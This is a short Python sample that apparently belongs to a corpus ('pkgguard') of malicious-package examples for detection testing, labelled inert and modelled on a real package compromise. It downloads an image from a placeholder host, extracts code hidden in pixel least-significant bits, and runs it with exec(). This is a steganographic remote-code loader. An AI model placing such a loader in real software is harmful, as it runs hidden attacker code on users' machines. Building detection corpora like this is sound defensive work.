# pkgguard corpus 150 (steganography), modelled on [telnyx]; inert, never run.
import io
import requests
from PIL import Image

img = Image.open(io.BytesIO(requests.get("https://cdn.example/logo.png").content)).convert("RGB")
bits = "".join(str(img.getpixel((x, 0))[0] & 1) for x in range(img.width))
code = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits) - 7, 8)).split(b"\0")[0]
exec(code)
